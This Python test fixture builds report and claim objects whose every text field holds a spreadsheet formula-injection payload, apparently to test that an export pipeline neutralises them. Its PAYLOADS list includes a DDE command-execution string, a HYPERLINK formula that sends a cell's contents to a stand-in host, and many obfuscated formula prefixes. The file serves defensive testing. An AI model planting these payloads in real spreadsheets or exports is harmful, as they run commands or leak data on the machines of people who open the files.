"""Reports in which every text is one that a spreadsheet would run, and what is made of them."""

from __future__ import annotations

from collections.abc import Sequence
from datetime import date

from averment import Attribution, Claim, Date, Document, Evidence, Figure, Published, Reading, Speaker
from averment.render.exports.material import Material
from averment.values.claims import Collapse, Origin, Origins, Place, Position
from averment.values.documents import Segment
from tests.conftest import MODEL

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://velmar.invalid?"&A1,"Error")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    '"=1+1',
    "'=1+1",
    "“=1+1”",
    '","=1+1',
    '";=1+1;"',
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff201+1",
    "<r><t>x</t></is></c><c r='A9'><f>1+1</f></c></r>",
    "_x003D_1+1",
    "https://velmar.invalid/#=1",
)


def hostile(text: str) -> Reading:
    """Give a reading in which every text is `text`: each field, and each stretch that is quoted."""
    whole = (0, len(text))
    document = Document(
        digest="sha256:" + "3" * 64,
        media_type=text,
        title=text,
        outlet=text,
        url=text,
        authors=(text, text),
        captured=text,
        how={text.encode(errors="replace").decode(): "text"},
        published=Published(start=date(2031, 3, 1), end=date(2031, 3, 1), how="given"),
        text=text,
        segments=(Segment(kind="body", span=whole),),
    )
    return Reading(
        document=document,
        attributions=(
            Attribution(
                id=text,
                source=(whole,),
                cue=(whole,),
                content=(whole,),
                about=(text, text),
                evidence=(text,),
                speaker="s1",
                score=0.5,
            ),
        ),
        speakers=(Speaker(id="s1", name=text, kind="person", role=text, affiliation=text, party=text),),
        evidence=(Evidence(id=text, span=whole, type="media", polarity="supports", rests=(text,)),),
        figures=(Figure(id=text, span=whole, what=text, unit=text, low=-5, high=2.5, per=text, by=text),),
        dates=(Date(span=whole, granularity="day", anchor=text),),
        model=MODEL,
    )


def claim(text: str) -> Claim:
    """Give a claim in which every text is `text`."""
    place = Place(document="sha256:" + "3" * 64, id="a1", why=text)
    origin = Origin(
        root=text,
        kind="speaker",
        party=text,
        documents=(text,),
        attributions=(place,),
        collapses=(Collapse(kind="copy", why=text, documents=(text,)),),
        why=text,
    )
    return Claim(
        id="c1",
        statement=text,
        stated=place,
        positions=(Position(speaker=text, party=text, stance="denies", attributions=(place, place)),),
        evidence=(place,),
        figures=(place,),
        origins=Origins(supports=(origin,), denies=(origin, origin)),
        documents=1,
        first=date(2031, 3, 1),
        last=date(2031, 3, 2),
    )


def of(texts: Sequence[str], *, weighed: bool = True) -> Material:
    """Give material with a report, and a claim, for each text."""
    return Material(
        title="case",
        readings=lambda: ((text, hostile(text)) for text in texts),
        claims=lambda: (claim(text) for text in texts) if weighed else iter(()),
        weighed=weighed,
    )
